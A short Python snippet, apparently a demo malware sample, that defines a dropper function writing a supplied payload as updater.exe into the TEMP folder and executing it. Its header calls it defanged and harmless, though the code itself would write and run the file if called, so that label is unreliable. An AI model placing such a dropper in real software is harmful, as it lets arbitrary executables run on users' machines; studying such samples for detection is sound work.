# DEFANGED DEMO SAMPLE for Dragonfly Fleet: never called, writes nothing real.
import os

TARGET_DIR = os.environ.get("TEMP", ".")


def _drop(payload):
    with open(TARGET_DIR + "/updater.exe", "wb") as f:
        f.write(payload)
    os.startfile(f.name)
